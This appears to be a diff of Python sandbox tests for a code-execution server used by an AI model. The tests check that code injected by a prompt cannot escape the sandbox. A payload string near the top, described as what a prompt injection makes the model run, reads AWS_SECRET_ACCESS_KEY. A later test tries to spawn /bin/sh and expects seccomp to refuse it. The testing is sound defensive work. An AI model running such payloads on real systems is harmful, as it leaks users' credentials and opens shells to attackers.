@@ -130,7 +130,7 @@ def _params(ws: Path, project: Path, home: Path, config_home: Path) -> StdioServ
 
 # what a prompt injection has the model run: the environment through an allowed library's ``os``, and a request out
 _STEAL = (
-    "import pytensor.utils as u\n"
+    "import matplotlib as u\n"
     "import pandas as pd\n"
     "print('aws', u.os.environ.get('AWS_SECRET_ACCESS_KEY'))\n"
     "try:\n"
@@ -363,18 +363,15 @@ def _load_default() -> Any:
 
 @pytest.mark.slow  # a sandbox worker of its own
 async def test_no_program_runs_in_the_sandbox_but_its_worker(tmp_path: Path) -> None:
-    """S-18: the allowed pytensor hands out os, subprocess and a working g++; seccomp refuses execve."""
+    """S-18: the allowed matplotlib hands out os and subprocess; seccomp refuses execve."""
     ws = tmp_path / "ws"
     code = (
-        "import pytensor.utils as u\n"
+        "import matplotlib as u\n"
         "try:\n"
-        "    print('ran', u.subprocess_Popen(['/bin/sh', '-c', 'id']).wait())\n"
+        "    print('ran', u.subprocess.Popen(['/bin/sh', '-c', 'id']).wait())\n"
         "except OSError as e:\n"
         "    print('refused', type(e).__name__)\n"
         "print('system', u.os.system('true'))\n"
-        "import pytensor, pytensor.tensor as pt\n"
-        "x = pt.dscalar('x')\n"
-        "print('pytensor', pytensor.function([x], x * 2)(3.0), repr(pytensor.config.cxx))\n"
         "import matplotlib.pyplot as plt\n"
         "plt.plot([1, 2])\n"
     )
@@ -384,7 +381,7 @@ async def test_no_program_runs_in_the_sandbox_but_its_worker(tmp_path: Path) -> 
     text = text_of(result)
     assert not result.is_error, text
     assert "refused PermissionError" in text and "system 32512" in text, text  # 127 << 8: the shell never ran
-    assert "pytensor 6.0 ''" in text and "figure 1" in text.lower(), text
+    assert "figure 1" in text.lower(), text
 
 
 def test_the_sandbox_filter_refuses_execve() -> None:
